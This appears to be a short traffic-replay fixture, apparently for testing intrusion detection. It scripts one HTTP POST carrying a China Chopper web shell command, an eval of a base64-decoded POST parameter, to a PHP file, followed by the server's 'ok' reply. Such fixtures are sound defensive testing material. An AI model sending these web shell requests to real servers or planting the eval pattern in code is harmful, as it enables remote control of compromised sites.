# China Chopper command.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /img/a.php HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/x-www-form-urlencoded\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 100\r\n
\r\n
x=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
